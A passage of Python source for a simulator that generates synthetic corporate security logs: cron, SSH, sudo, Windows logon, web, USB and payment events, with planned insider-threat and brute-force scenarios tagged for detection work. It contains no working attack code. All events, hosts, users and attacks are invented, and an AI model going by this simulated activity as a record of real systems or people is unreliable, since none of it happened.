             '/usr/bin/journalctl -u {svc} -n 100', '/usr/bin/tail -f /var/log/messages',
             '/usr/bin/vi /etc/{svc}/{svc}.conf', '/usr/bin/firewall-cmd --list-all', '/usr/sbin/ss -tlnp',
             '/usr/bin/df -h', '/usr/sbin/reboot', '/bin/bash'],
}
DEV_SUDO = ['/usr/bin/systemctl restart app-api', '/usr/bin/docker compose up -d', '/usr/bin/docker logs -f api',
            '/usr/bin/tail -n 100 /var/log/app/app.log', '/usr/bin/systemctl status app-worker']


def os_family(org, host):
    return 'rhel' if org.lin[host]['os'] == 'rhel8' else 'ubuntu'


class Sim:
    def __init__(self, org, sink):
        self.o = org
        self.s = sink
        self.g = Gen(org, sink)
        org.ws_owner = {u.ws: u for u in org.users}
        self.plan = {}       # (user idx, day) -> list of attacks
        self.attacks = []

    # ================================================================ planning attacks
    def plan_attacks(self):
        o = self.o
        rng = random.Random('attacks:%d' % o.seed)
        D = o.n_days
        first = int(math.ceil(0.4 * D))
        last = D - 2
        per = max(2, int(round(0.05 * len(o.users) / 8.0)))
        taken = set()

        def workdays(lo, hi):
            return [d for d in range(lo, hi + 1) if o.dates[d].weekday() < 5 and o.dstr[d] not in o.holidays]

        def pick(pred):
            cand = [u for u in o.users if u.idx not in taken and pred(u)]
            u = rng.choice(cand)
            taken.add(u.idx)
            return u

        scen = ['transaction_velocity', 'privilege_escalation', 'lateral_movement', 'off_hours_spree',
                'removable_media_exfiltration', 'cloud_upload', 'departing_employee', 'brute_force_takeover']
        for sc in scen:
            for k in range(per):
                if sc == 'transaction_velocity':
                    u = pick(lambda x: x.payer)
                elif sc == 'privilege_escalation':
                    if k % 2 == 0:
                        u = pick(lambda x: x.dept == 'engineering' and not x.sudo_on and x.servers)
                    else:
                        u = pick(lambda x: not x.is_admin and x.os == 'windows')
                elif sc == 'lateral_movement':
                    if k % 2 == 0:
                        u = pick(lambda x: not x.is_admin and x.os == 'windows')
                    else:
                        u = pick(lambda x: x.dept == 'engineering' and x.servers and not x.sudo_on)
                elif sc == 'off_hours_spree':
                    u = pick(lambda x: not x.night_owl and x.os == 'windows' and x.late_p < 0.03)
                elif sc == 'removable_media_exfiltration':
                    u = pick(lambda x: not x.is_admin)
                elif sc == 'cloud_upload':
                    u = pick(lambda x: True)
                elif sc == 'departing_employee':
                    u = pick(lambda x: not x.is_admin)
                else:
                    u = pick(lambda x: True)
                u.vacation = set()
                u.new_ws_day = None
                a = {'id': len(self.attacks), 'user': u.name, 'uidx': u.idx, 'scenario': sc}
                if sc == 'departing_employee':
                    L = rng.randint(10, 15)
                    s0 = rng.randint(first, max(first, D - L))
                    a['days'] = list(range(s0, min(D, s0 + L)))
                    for i, d in enumerate(a['days']):
                        u.drift[d] = (i + 1) / float(len(a['days']))
                    a['usb'] = rng.random() < 0.6
                elif sc == 'off_hours_spree':
                    n = rng.randint(1, 3)
                    d0 = rng.randint(first, last - n + 1)
                    if rng.random() < 0.5:
                        a['days'] = list(range(d0, d0 + n))
                    else:
                        a['days'] = sorted(rng.sample(range(first, last + 1), n))
                elif sc == 'brute_force_takeover':
                    d0 = rng.randint(first, last - 1)
                    a['days'] = [d0] + ([d0 + rng.randint(1, 2)] if rng.random() < 0.5 and d0 + 2 <= last else [])
                    a['variant'] = 'ssh' if k % 2 == 0 else 'vpn'
                else:
                    wd = workdays(first, last)
                    n = 1 if rng.random() < 0.5 else 2
                    if sc == 'privilege_escalation':
                        a['variant'] = 'linux' if (u.servers and not u.sudo_on and u.dept == 'engineering') else 'windows'
                    if sc == 'lateral_movement':
                        a['variant'] = 'linux' if (u.dept == 'engineering' and u.servers and k % 2 == 1) else 'windows'
                    d0i = rng.randint(0, len(wd) - 1)
                    days = [wd[d0i]]
                    if n == 2 and d0i + 1 < len(wd):
                        days.append(wd[min(len(wd) - 1, d0i + rng.randint(1, 3))])
                    a['days'] = sorted(set(days))
                a['rng'] = random.Random('atk:%d:%d:%s' % (o.seed, u.idx, sc))
                self.attacks.append(a)
                for d in a['days']:
                    self.plan.setdefault((u.idx, d), []).append(a)

    # ================================================================ main loop
    def run(self):
        o = self.o
        self.plan_attacks()
        for d in range(o.n_days):
            self.background_day(d)
            for u in o.users:
                self.user_day(u, d)
            self.s.flush(d - 3)
        self.s.close()

    # ================================================================ background noise
    def background_day(self, d):
        o, g = self.o, self.g
        rng = random.Random('bg:%d:%d' % (o.seed, d))
        base = o.t0 + d * 86400
        # CRON on every server (root hourly, plus a few service jobs)
        for h in o.lin_names:
            fam = os_family(o, h)
            prog = 'crond' if fam == 'rhel' else 'CRON'
            svc = 'crond' if fam == 'rhel' else 'cron'
            minute = h32(h) % 60
            for hr in range(24):
                t = base + hr * 3600 + minute * 60 + rng.uniform(0, 1.5)
                pid = o.pid(h, rng)
                g.auth(t, h, prog, pid, g.pam_open(h, svc, 'root', 0))
                g.auth(t + rng.uniform(0.05, 2), h, prog, pid, 'pam_unix(%s:session): session closed for user root' % svc)
            if o.lin[h]['role'] in ('db', 'backup'):
                for hr in (1, 13):
                    t = base + hr * 3600 + 5 * 60 + rng.uniform(0, 3)
                    pid = o.pid(h, rng)
                    usr = 'postgres' if o.lin[h]['role'] == 'db' else 'backup'
                    g.auth(t, h, prog, pid, g.pam_open(h, svc, usr, 114 if usr == 'postgres' else 998))
                    g.auth(t + rng.uniform(30, 600), h, prog, pid, 'pam_unix(%s:session): session closed for user %s' % (svc, usr))
        # ansible from mon-01 nightly at ~02:30 HQ-local to all servers, with sudo
        t_ans = o.ts(d, 2.5, o.hq_tz) + rng.uniform(0, 300)
        for h in o.lin_names:
            if h == 'mon-01':
                continue
            t_ans += rng.uniform(2, 15)
            fam = os_family(o, h)
            g.ssh_session(t_ans, h, 'ansible', 1002, o.lin['mon-01']['ip'], rng.uniform(8, 60), rng,
                          keytype='ED25519', fp=b64ish('ansible%d' % o.seed, 43),
                          sudo=['/bin/sh -c echo BECOME-SUCCESS-%s ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-%d/AnsiballZ_setup.py'
                                % (b64ish('%s%d%d' % (h, d, o.seed), 32).lower().replace('/', 'a').replace('+', 'b'), int(t_ans))])
        # backup rsync from backup-01 to db servers at 01:15
        for h in ('db-01', 'db-02', 'db-03', 'git-01'):
            t = o.ts(d, 1.25, o.hq_tz) + rng.uniform(0, 600)
            g.ssh_session(t, h, 'backup', 998, o.lin['backup-01']['ip'], rng.uniform(300, 2400), rng,
                          keytype='RSA', fp=b64ish('backup%d' % o.seed, 43))
        # jenkins deploys from build-01 during working hours
        for _ in range(poisson(rng, 6 if o.dates[d].weekday() < 5 else 1)):
            t = o.ts(d, rng.uniform(9, 19), o.hq_tz)
            h = rng.choice(['app-01', 'app-02', 'app-03', 'app-04', 'stage-01', 'web-01', 'web-02'])
            g.ssh_session(t, h, 'deploy', 1500, o.lin['build-01']['ip'], rng.uniform(20, 240), rng,
                          keytype='RSA', fp=b64ish('deploy%d' % o.seed, 43),
                          sudo=['/usr/bin/systemctl restart app-api'] if rng.random() < 0.5 else None)
        # internet scanners against the bastion
        nscan = poisson(rng, 45)
        bad_users = ['root', 'root', 'root', 'admin', 'test', 'ubuntu', 'oracle', 'postgres', 'user',
                     'git', 'ftpuser', 'pi', 'support', 'guest', 'deploy', 'hadoop', 'mysql', 'jenkins',
                     'teamspeak', 'minecraft', 'steam', 'ubnt', 'tomcat', 'es', 'zabbix', 'dev', 'sa']
        for _ in range(nscan):
            net, cc = rng.choice(ATTACKER_NETS)
            ip = '%s.%d' % (net, rng.randint(1, 254)) if rng.random() < 0.5 else \
                '%d.%d.%d.%d' % (rng.choice([36, 42, 49, 58, 59, 60, 61, 101, 103, 112, 116, 117, 119, 121, 122,
                                             123, 124, 125, 159, 164, 167, 170, 183, 195, 202, 203, 211, 220, 221]),
                                 rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))
            t = base + rng.uniform(0, 86400)
            for _ in range(rng.choice([1, 1, 1, 2, 3, 5, 8, 12])):
                usr = rng.choice(bad_users)
                pid = o.pid('bastion-01', rng)
                port = rng.randint(1024, 65000)
                if usr in ('root', 'deploy', 'jenkins', 'git'):
                    g.auth(t, 'bastion-01', 'sshd', pid, 'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s' % (ip, usr))
                    g.auth(t + 2, 'bastion-01', 'sshd', pid, 'Failed password for %s from %s port %d ssh2' % (usr, ip, port))
                    if rng.random() < 0.3:
                        g.auth(t + 4, 'bastion-01', 'sshd', pid, 'message repeated 2 times: [ Failed password for %s from %s port %d ssh2]' % (usr, ip, port))
                    g.auth(t + 5, 'bastion-01', 'sshd', pid, 'Connection closed by authenticating user %s %s port %d [preauth]' % (usr, ip, port))
                else:
                    g.auth(t, 'bastion-01', 'sshd', pid, 'Invalid user %s from %s port %d' % (usr, ip, port))
                    g.auth(t + 0.5, 'bastion-01', 'sshd', pid, 'pam_unix(sshd:auth): check pass; user unknown')
                    g.auth(t + 0.5, 'bastion-01', 'sshd', pid, 'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s' % ip)
                    g.auth(t + 2.5, 'bastion-01', 'sshd', pid, 'Failed password for invalid user %s from %s port %d ssh2' % (usr, ip, port))
                    g.auth(t + 3, 'bastion-01', 'sshd', pid, 'Connection closed by invalid user %s %s port %d [preauth]' % (usr, ip, port))
                t += rng.uniform(3, 40)
            if rng.random() < 0.2:
                pid = o.pid('bastion-01', rng)
                g.auth(t + 1, 'bastion-01', 'sshd', pid, 'Received disconnect from %s port %d:11: Bye Bye [preauth]' % (ip, rng.randint(1024, 65000)))
        # fail2ban style / sshd misc
        # windows service/machine-account noise
        for _ in range(poisson(rng, 60)):
            host = rng.choice(['dc01', 'dc02'])
            ws_u = rng.choice(o.users)
            t = base + rng.uniform(0, 86400)
            lid = g.logon_id(rng)
            g.win(t, host, '4624', 'logged-in', ['authentication'], ['start'], 'success', ws_u.ws.upper() + '$',
                  ltype=3, src_ip=ws_u.ws_ip, logon_id=lid, auth='Kerberos')
            g.win(t + rng.uniform(0.5, 30), host, '4634', 'logged-out', ['authentication'], ['end'], 'success',
                  ws_u.ws.upper() + '$', ltype=3, logon_id=lid)
        for host, acct, hr in (('fs01', 'svc_backup', 1.1), ('fs02', 'svc_backup', 1.4), ('sql01', 'svc_sql', 0.2),
                               ('sql02', 'svc_sql', 0.2), ('erp01', 'svc_erp', 6.0), ('veeam01', 'svc_veeam', 23.0)):
            t = o.ts(d, hr, o.hq_tz) + rng.uniform(0, 900)
            lid = g.logon_id(rng)
            lt = 5 if acct == 'svc_sql' else 3
            g.win(t, host, '4624', 'logged-in', ['authentication'], ['start'], 'success', acct,
                  ltype=lt, src_ip='10.10.50.24' if lt == 3 else '-', logon_id=lid,
                  auth='Kerberos' if lt == 3 else 'Negotiate')
            g.win(t + rng.uniform(600, 5000), host, '4634', 'logged-out', ['authentication'], ['end'], 'success',
                  acct, ltype=lt, logon_id=lid)
        # IT onboarding noise: occasional account creation & group membership by admins
        admins = [u for u in o.users if u.is_admin]
        if admins and o.dates[d].weekday() < 5 and rng.random() < 0.35:
            a = rng.choice(admins)
            t = o.ts(d, rng.uniform(a.start + 0.5, a.start + 6), a.tz)
            newu = '%s%s' % (rng.choice(FIRST)[0], rng.choice(LAST))
            g.win(t, 'dc01', '4720', 'added-user-account', ['iam'], ['user', 'creation'], 'success', a.name,
                  sid=a.sid, target=newu, extra_data={'TargetUserName': newu, 'TargetDomainName': o.netbios,
                                                      'SubjectUserName': a.name, 'SubjectDomainName': o.netbios})
            grp = rng.choice(['Domain Users', 'VPN-Users', 'FS-Finance-RW', 'FS-Engineering-RW', 'M365-E3'])
            g.win(t + rng.uniform(5, 120), 'dc01', '4728', 'added-member-to-group', ['iam'], ['group', 'change'],
                  'success', a.name, sid=a.sid, target=newu, group=grp,
                  extra_data={'MemberName': 'CN=%s,OU=Users,DC=corp,DC=%s,DC=com' % (newu, o.co),
                              'TargetUserName': grp, 'SubjectUserName': a.name})
        if admins and o.dates[d].weekday() < 5 and rng.random() < 0.25:
            a = rng.choice([x for x in admins if x.sudo_on] or admins)
            if a.sudo_on:
                h = rng.choice(a.sudo_on)
                if h != 'bastion-01':
                    t = o.ts(d, rng.uniform(a.start + 1, a.start + 6), a.tz)
                    newu = rng.choice(['svc_%s' % rng.choice(['metrics', 'etl', 'report', 'deploy2']),
                                       rng.choice(o.users).name])
                    uid = rng.randint(1100, 1900)
                    pid = o.pid(h, rng)
                    g.sudo(t, h, a.name, a.uid, 'pts/%d' % rng.randint(0, 3), '/home/%s' % a.name,
                           '/usr/sbin/useradd -m -s /bin/bash %s' % newu)
                    g.auth(t + 0.05, h, 'groupadd' if rng.random() < 0.3 else 'useradd', pid,
                           'new group: name=%s, GID=%d' % (newu, uid))
                    g.auth(t + 0.06, h, 'useradd', pid,
                           'new user: name=%s, UID=%d, GID=%d, home=/home/%s, shell=/bin/bash, from=/dev/pts/%d'
                           % (newu, uid, uid, newu, rng.randint(0, 3)))
                    if rng.random() < 0.5:
                        grp = rng.choice(['docker', 'adm', 'www-data', 'developers'])
                        pid2 = o.pid(h, rng)
                        g.sudo(t + 30, h, a.name, a.uid, 'pts/1', '/home/%s' % a.name,
                               '/usr/sbin/usermod -aG %s %s' % (grp, newu))
                        g.auth(t + 30.05, h, 'usermod', pid2, "add '%s' to group '%s'" % (newu, grp))
                        g.auth(t + 30.06, h, 'usermod', pid2, "add '%s' to shadow group '%s'" % (newu, grp))
                    if rng.random() < 0.2:
                        gname = rng.choice(['developers', 'dataeng', 'monitoring', 'release'])
                        gid = rng.randint(1200, 1300)
                        pid3 = o.pid(h, rng)
                        g.sudo(t + 60, h, a.name, a.uid, 'pts/1', '/home/%s' % a.name, '/usr/sbin/groupadd %s' % gname)
                        g.auth(t + 60.05, h, 'groupadd', pid3, 'group added to /etc/group: name=%s, GID=%d' % (gname, gid))
                        g.auth(t + 60.06, h, 'groupadd', pid3, 'group added to /etc/gshadow: name=%s' % gname)
                        g.auth(t + 60.07, h, 'groupadd', pid3, 'new group: name=%s, GID=%d' % (gname, gid))

    # ================================================================ per-user day
    def user_day(self, u, d):
        o = self.o
        rng = random.Random('u:%d:%d:%d' % (o.seed, u.idx, d))
        date = o.dates[d]
        wd = date.weekday()
        holiday = o.dstr[d] in o.holidays
        attacks = self.plan.get((u.idx, d), [])
        insider = [a for a in attacks if a['scenario'] not in ('off_hours_spree', 'brute_force_takeover', 'departing_employee')]
        drift = u.drift.get(d)
        if u.new_ws_day is not None and d == u.new_ws_day:
            # laptop replaced: new workstation name from today
            u.ws = ('lt-%04x' % rng.randint(0, 0xffff)) if u.os == 'windows' else ('mbp-%04x' % rng.randint(0, 0xffff))
            o.ws_owner[u.ws] = u
        if rng.random() < 0.02:
            u.ws_ip = '10.20.%d.%d' % (rng.randint(1, 40), rng.randint(10, 250))  # DHCP change
        sick = wd < 5 and not holiday and rng.random() < u.sick_p
        absent = (d in u.vacation or sick) and not insider and drift is None
        if wd >= 5 or holiday:
            works = rng.random() < u.weekend_p * (0.6 if holiday else 1.0) or bool(insider)
            kind = 'weekend' if not insider else 'work'
        else:
            works = not absent
            kind = 'work'
        sess = None
        if works:
            if kind == 'work':
                s = u.start + rng.gauss(0, u.start_sd)
                L = u.day_len + rng.gauss(0, 0.45)
            else:
                s = rng.uniform(9.5, 16)
                L = rng.uniform(0.6, 3.5)
            if drift:
                s += drift * rng.uniform(0.0, 1.2)
                L += drift * rng.uniform(1.0, 2.8)
            remote = kind == 'weekend' or rng.random() < u.remote_p
            sess = self.session(u, d, s, s + L, remote, rng, kind, drift)
        elif drift is not None:
            # departing user on a non-working day still browses job sites from home (cloud proxy)
            a = self.drift_attack(u)
            for _ in range(rng.randint(2, 8)):
                t = o.ts(d, rng.uniform(10, 22), u.tz)
                dom = rng.choice(JOB_DOMAINS).format(rival=o.rival)
                self.g.web(t, u, u.home_ip, dom, rng, path=rng.choice(['/jobs', '/viewjob?jk=%x' % rng.randint(1, 1 << 40), '/search?q=senior', '/']), tag=a['id'])
        # occasional late evening session from home
        if rng.random() < u.late_p or (drift and rng.random() < 0.35 * drift):
            s = rng.uniform(19.5, 22.8) if not u.night_owl else rng.uniform(21, 24.8)
            self.session(u, d, s, s + rng.uniform(0.3, 1.4), True, rng, 'late', drift)
        for a in attacks:
            getattr(self, 'atk_' + a['scenario'])(a, u, d, sess)

    def drift_attack(self, u):
        for a in self.attacks:
            if a['uidx'] == u.idx and a['scenario'] == 'departing_employee':
                return a
        return None

    # ------------------------------------------------------------------ a work session
    def session(self, u, d, s, e, remote, rng, kind, drift):
        o, g = self.o, self.g
        T = lambda h: o.ts(d, h, u.tz)
        frac = max(0.08, (e - s) / u.day_len)
        jit = rng.lognormvariate(0, 0.3)
        tag = None
        datk = self.drift_attack(u) if drift else None
        dtag = datk['id'] if datk else None
        mac = u.os == 'macos'
        # network position
        if remote:
            pub = u.home_ip if rng.random() < 0.93 else public_ip(rng, u.cc)
            src = '10.50.%d.%d' % (rng.randint(0, 63), rng.randint(2, 254))
            t_vpn = T(s) - rng.uniform(30, 400)
            g.vpn(t_vpn, u, 'gateway-auth', 'success', pub, u.cc, rng)
            g.vpn(t_vpn + rng.uniform(1, 4), u, 'gateway-connected', 'success', pub, u.cc, rng, priv_ip=src)
            g.vpn(T(e) + rng.uniform(30, 900), u, 'gateway-logout', 'success', pub, u.cc, rng, priv_ip=src,
                  reason='client logout' if rng.random() < 0.7 else 'idle timeout')
        else:
            src = u.ws_ip
        # ---------------- windows logon on own workstation
        if not mac:
            t = T(s)
            if rng.random() < u.typo_p:
                for _ in range(rng.randint(1, 2)):
                    g.w_fail(t - rng.uniform(5, 20), u.ws, u.name, 2 if kind != 'late' else 7, '127.0.0.1', u.ws, sid=u.sid)
            lt = 2 if rng.random() < 0.4 or kind == 'work' and d == 0 else 7
            if remote and lt == 2:
                lt = 11
            lid = g.w_logon(t, u.ws, u, lt, '127.0.0.1', u.ws, rng, special=u.is_admin)
            g.w_kerb(t + rng.uniform(0.1, 2), u, src, rng)
            # unlocks during the day
            for _ in range(poisson(rng, 3 * frac)):
                tt = T(rng.uniform(s, e))
                if rng.random() < u.typo_p / 2:
                    g.w_fail(tt - 4, u.ws, u.name, 7, '127.0.0.1', u.ws, sid=u.sid)
                g.w_logon(tt, u.ws, u, 7, '127.0.0.1', u.ws, rng)
            if rng.random() < 0.5:
                g.w_logoff(T(e), u.ws, u, lt, lid, user_initiated=True)
            # network logons to file servers etc.
            for srv in u.win_servers:
                n = poisson(rng, 1.3 * frac) if srv != 'fs01' else 1 + poisson(rng, 1.5 * frac)
                for _ in range(n):
                    tt = T(rng.uniform(s, e))
                    l2 = g.w_logon(tt, srv, u, 3, src, u.ws, rng, auth='Kerberos')
                    g.w_logoff(tt + rng.uniform(2, 3600), srv, u, 3, l2)
            for srv in u.rdp_servers:
                if rng.random() < 0.5 * frac:
                    tt = T(rng.uniform(s, e))
                    l2 = g.w_logon(tt, srv, u, 10, src, u.ws, rng, special=True)
                    g.w_logoff(tt + rng.uniform(120, 5400), srv, u, 10, l2, user_initiated=True)
            # occasional new host (meeting room / hot desk / colleague machine)
            if rng.random() < 0.01:
                newh = 'conf-%s-%02d' % (rng.choice(['a', 'b', 'c']), rng.randint(1, 20))
                tt = T(rng.uniform(s, e))
                l2 = g.w_logon(tt, newh, u, 2, '127.0.0.1', newh, rng)
                g.w_logoff(tt + rng.uniform(600, 3600), newh, u, 2, l2, user_initiated=True)
        # ---------------- processes
        nproc = poisson(rng, u.proc_rate * frac * jit)
        plist = PROC_COMMON + PROC_DEPT.get(u.dept, [])
        pw = [p[2] for p in plist]
        for _ in range(nproc):
            name, exe, _w = wchoice(rng, plist, pw)
            exe = exe.replace('{u}', u.name)
            hh = rng.choice(u.servers) if u.servers else rng.choice(WIN_SERVERS)
            cmd = rng.choice(CMDLINES.get(name, ['"%s"' % exe])).format(w=rng.choice(WORDS), u=u.name, h=hh)
            if mac:
                mname = MAC_APP.get(name, name.replace('.exe', '').replace('.EXE', ''))
                g.proc(T(rng.uniform(s, e)), u.ws, u, mname, '/Applications/%s.app/Contents/MacOS/%s' % (mname, mname),
                       '/Applications/%s.app/Contents/MacOS/%s' % (mname, mname), 'launchd', rng, mac=True)
            else:
                g.proc(T(rng.uniform(s, e)), u.ws, u, name, exe, cmd, PARENT_BY_PROC.get(name, 'explorer.exe'), rng)
        if not mac and kind == 'work':
            for _ in range(rng.randint(0, 3)):
                sp = rng.choice(SYSTEM_PROCS)
                g.proc(T(rng.uniform(s - 0.5, e + 1)), u.ws, 'SYSTEM', sp[0], sp[1], sp[3], sp[2], rng)
        # ---------------- files
        fmult = 1.0 + (drift * rng.uniform(1.0, 2.2) if drift else 0.0)
        nfile = poisson(rng, u.file_rate * frac * jit * fmult)
        for i in range(nfile):
            tt = T(rng.uniform(s, e))
            self.file_event(u, tt, rng, tag=dtag if (drift and i >= nfile / fmult) else None)
        # ---------------- web
        nweb = poisson(rng, u.web_rate * frac * jit)
        for _ in range(nweb):
            tt = T(rng.uniform(s, e))
            dom = wchoice(rng, u.domains, u.dom_w)
            if dom in u.cloud or dom.endswith('sharepoint.com') or dom == 'github.com':
                m = 'POST' if rng.random() < 0.25 else 'GET'
                rb = int(rng.lognormvariate(math.log(400000), 1.6)) if m == 'POST' else None
                g.web(tt, u, src, dom, rng, method=m, req_bytes=rb)
            else:
                act = 'blocked' if rng.random() < 0.01 else 'allowed'
                g.web(tt, u, src, dom, rng, method='POST' if rng.random() < 0.08 else 'GET', action=act)
        if rng.random() < 0.012:   # ordinary curiosity about jobs
            g.web(T(rng.uniform(s, e)), u, src, rng.choice(JOB_DOMAINS).format(rival=o.rival), rng, path='/')
        if drift:
            for _ in range(int(1 + drift * rng.uniform(6, 25))):
                dom = rng.choice(JOB_DOMAINS + ['www.linkedin.com']).format(rival=o.rival)
                path = '/jobs/view/%d' % rng.randint(10 ** 9, 4 * 10 ** 9) if dom == 'www.linkedin.com' else \
                    rng.choice(['/jobs', '/viewjob?jk=%x' % rng.randint(1, 1 << 40), '/search?q=%s' % rng.choice(['engineer', 'manager', 'analyst', 'remote']), '/apply', '/'])
                m = 'POST' if path == '/apply' else 'GET'
                g.web(T(rng.uniform(s, e + 0.5)), u, src, dom, rng, path=path, method=m,
                      req_bytes=rng.randint(80000, 900000) if m == 'POST' else None, tag=dtag)
        # ---------------- email
        emult = 1.0 - (0.65 * drift if drift else 0.0)
        for _ in range(poisson(rng, u.email_rate * frac * jit * emult)):
            g.mail(T(rng.uniform(s, e)), u, src, rng)
        # ---------------- ssh
        if u.servers:
            nssh = poisson(rng, u.ssh_rate * frac)
            for _ in range(nssh):
                self.normal_ssh(u, T(rng.uniform(s, e - 0.1)), src, remote, rng, d)
        # ---------------- usb (normal)
        if u.usb_serial and rng.random() < u.usb_p * frac:
            tt = T(rng.uniform(s, e - 0.3))
            g.device(tt, u.ws, u, 'device-connected', u.usb_dev, u.usb_serial, rng)
            for i in range(rng.randint(1, 12)):
                self.file_event(u, tt + 20 + i * rng.uniform(2, 40), rng, usb=True)
            g.device(tt + rng.uniform(600, 5400), u.ws, u, 'device-disconnected', u.usb_dev, u.usb_serial, rng)
        # ---------------- transactions
        if u.payer and kind == 'work':
            for _ in range(poisson(rng, u.txn_rate * frac)):
                tt = T(rng.uniform(s + 0.3, e - 0.2))
                if rng.random() < 0.03:
                    cp = o.new_cp(rng, u.cc)
                    u.cps.append(cp)
                    u.cp_w.append(0.3)
                else:
                    cp = wchoice(rng, u.cps, u.cp_w)
                amt = rng.lognormvariate(math.log(u.amt_med), u.amt_sig)
                act = wchoice(rng, ['payment', 'wire-transfer', 'refund'], [75, 18, 7])
                out = 'failure' if rng.random() < 0.01 else 'success'
                g.payment(tt, u, src, act, amt, u.currency, cp, rng, outcome=out)
        # ---------------- departing: copying at the end of drift
        if drift and drift > 0.6 and datk and not mac:
            rr = random.Random('dcopy:%d:%d' % (u.idx, d))
            if rr.random() < 0.6:
                tt = T(rng.uniform(e - 2, e))
                if datk.get('usb'):
                    model = USB_MODELS[u.idx % len(USB_MODELS)]
                    serial = b64ish('depusb%s' % u.name, 14).upper().replace('+', 'Q').replace('/', 'Z')
                    g.device(tt, u.ws, u, 'device-connected', model, serial, rng, tag=dtag)
                    for i in range(rng.randint(15, 60)):
                        self.file_event(u, tt + 10 + i * rng.uniform(1, 8), rng, usb=True, tag=dtag, copy=True)
                    g.device(tt + rng.uniform(900, 2400), u.ws, u, 'device-disconnected', model, serial, rng, tag=dtag)
                else:
                    dom = 'www.dropbox.com' if 'content.dropboxapi.com' not in u.cloud else 'drive.google.com'
                    for i in range(rng.randint(5, 20)):
                        g.web(tt + i * rng.uniform(10, 60), u, src, dom, rng, method='POST', path='/upload',
                              req_bytes=int(rng.lognormvariate(math.log(3e6), 1.0)), tag=dtag)
        return (s, e, src, remote)

    def normal_ssh(self, u, t, src, remote, rng, d):
        o, g = self.o, self.g
        srvs = [x for x in u.servers if x != 'bastion-01']
        if not srvs:
            return
        # occasionally a server the user has not used before (new assignment)
        if rng.random() < 0.01:
            cand = [x for x in o.lin_names if x not in u.servers and x != 'bastion-01']
            newh = rng.choice(cand)
            u.servers.insert(0, newh)
            srvs.append(newh)
        h = rng.choice(srvs)
        dur = rng.lognormvariate(math.log(1200), 0.9)
        fails = 0
        if u.ssh_auth == 'password' and rng.random() < u.typo_p:
            fails = rng.randint(1, 2)
        src_ip = src
        if remote:
            # via bastion
            bip = o.lin['bastion-01']['ip']
            g.ssh_session(t - rng.uniform(5, 30), 'bastion-01', u.name, u.uid, src, dur + 60, rng,
                          method=u.ssh_auth, fails=fails, keytype=u.keytype, fp=u.fingerprint)
            src_ip = bip
            fails = 0
        sudo, sfail = None, None
        if h in u.sudo_on:
            fam = os_family(o, h)
            svc = rng.choice(SERVICE_BY_ROLE.get(o.lin[h]['role'], ['app']))
            pool = ADMIN_SUDO[fam] if u.is_admin else DEV_SUDO
            sudo = [rng.choice(pool).format(svc=svc) for _ in range(poisson(rng, 2.5) + (1 if u.is_admin else 0))]
        elif rng.random() < 0.006:
            sfail = [rng.choice(['/usr/bin/systemctl restart app-api', '/usr/bin/tail /var/log/syslog', '/usr/bin/apt-get update'])]
        pid, tty = g.ssh_session(t, h, u.name, u.uid, src_ip, dur, rng, method=u.ssh_auth, fails=fails,
                                 keytype=u.keytype, fp=u.fingerprint, sudo=sudo, sudo_fail=sfail)
        # admins sometimes become a service user
        if u.is_admin and rng.random() < 0.1:
            tt = t + rng.uniform(30, 300)
            target = rng.choice(['postgres', 'www-data', 'deploy'])
            g.sudo(tt, h, u.name, u.uid, tty, '/home/%s' % u.name, '/bin/su - %s' % target)
            spid = o.pid(h, rng)
            g.auth(tt + 0.1, h, 'su', spid, '(to %s) %s on %s' % (target, u.name, tty))
            g.auth(tt + 0.11, h, 'su', spid, g.pam_open(h, 'su-l', target, 114, by_user=u.name, by_uid=0))
            g.auth(tt + rng.uniform(60, 900), h, 'su', spid, 'pam_unix(su-l:session): session closed for user %s' % target)

    # ------------------------------------------------------------------ file helpers
    def rand_file(self, u, rng, share=False, dept=None):
        dept = dept or u.dept
        ext = rng.choice(DEPT_EXT[dept])
        w1, w2 = rng.choice(WORDS), rng.choice(WORDS)
        name = rng.choice(['%s_%s.%s', '%s-%s-v%d.%s', '%s %s.%s', '%s_%s_2024.%s'])
        if name.count('%') == 4:
            fname = name % (w1, w2, rng.randint(1, 9), ext)
        else:
            fname = name % (w1, w2, ext)
        if u.os == 'macos':
            if dept == 'engineering' and ext in ('py', 'go', 'ts', 'java', 'yaml', 'md', 'json', 'sql', 'sh', 'tf'):
                return '/Users/%s/src/%s/%s/%s' % (u.name, rng.choice(['api', 'web', 'infra', 'etl', 'mobile']),
                                                  rng.choice(['src', 'lib', 'tests', 'cmd', 'pkg']), fname.replace(' ', '_')), ext
            return '/Users/%s/%s/%s' % (u.name, rng.choice(['Documents', 'Desktop', 'Downloads']), fname), ext
        if share:
            return '\\\\fs0%d\\%s\\%s\\%s' % (1 if dept not in ('finance', 'hr', 'legal') else 2, dept.capitalize(),
                                            rng.choice(['Shared', 'Projects', 'Archive', '2024', 'Reports', 'Team']), fname), ext
        if dept == 'engineering' and ext in ('py', 'go', 'ts', 'java', 'yaml', 'md', 'json', 'sql', 'sh', 'tf'):
            return 'C:\\Users\\%s\\source\\repos\\%s\\%s\\%s' % (u.name, rng.choice(['api', 'web', 'infra', 'etl', 'mobile']),
                                                              rng.choice(['src', 'lib', 'tests', 'cmd', 'pkg']), fname.replace(' ', '_')), ext
        return 'C:\\Users\\%s\\%s\\%s' % (u.name, rng.choice(['Documents', 'Documents', 'Desktop', 'Downloads',
                                                               'OneDrive - %s' % self.o.co.capitalize()]), fname), ext

    def file_event(self, u, t, rng, tag=None, usb=False, copy=False, share_p=0.3, dept=None, action=None,
                   letter='E', proc_name=None):
        g = self.g
        mac = u.os == 'macos'
        path, ext = self.rand_file(u, rng, share=(not mac and rng.random() < share_p), dept=dept)
        size = rng.lognormvariate(math.log(EXT_SIZE.get(ext, 1e5)), 0.9)
        if usb:
            base = path.replace('/', '\\').split('\\')[-1]
            if mac:
                path = '/Volumes/%s/%s' % (rng.choice(['KINGSTON', 'SANDISK', 'USB DRIVE', 'UNTITLED']), base)
            else:
                path = '%s:\\%s%s' % (letter, rng.choice(['', 'backup\\', 'docs\\', 'work\\']), base)
            action = action or ('creation' if copy or rng.random() < 0.8 else 'modification')
            pname = proc_name or ('Finder' if mac else 'explorer.exe')
        else:
            if action is None:
                action = wchoice(rng, ['modification', 'creation', 'open', 'deletion', 'rename', 'overwrite'],
                                 [40, 22, 14, 10, 9, 5])
